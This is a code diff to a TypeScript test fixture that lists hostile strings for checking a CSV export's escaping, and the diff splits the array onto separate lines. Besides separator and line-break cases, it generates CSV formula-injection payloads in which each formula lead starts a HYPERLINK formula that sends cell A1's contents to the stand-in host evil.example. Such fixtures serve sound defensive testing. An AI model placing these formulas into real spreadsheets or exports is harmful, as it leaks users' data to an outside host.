@@ -5,7 +5,16 @@ export const FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B"
 
 /** Every separator the export offers, quotes, line breaks, and each formula lead, alone and leading a payload. */
 export const HOSTILE_TEXTS = [
-  "a;b", "a,b", "a\tb", 'say "cheese"', '"', "line\r\nbreak", "line\nbreak", "line\rbreak", "'already quoted", " =1+1",
+  "a;b",
+  "a,b",
+  "a\tb",
+  'say "cheese"',
+  '"',
+  "line\r\nbreak",
+  "line\nbreak",
+  "line\rbreak",
+  "'already quoted",
+  " =1+1",
   ...FORMULA_LEADS.map((lead) => `${lead}HYPERLINK("http://evil.example/?x="&A1;"click")`),
   ...FORMULA_LEADS.map((lead) => `${lead}1,2;3\t4"5"\r\n6`),
   ...FORMULA_LEADS,
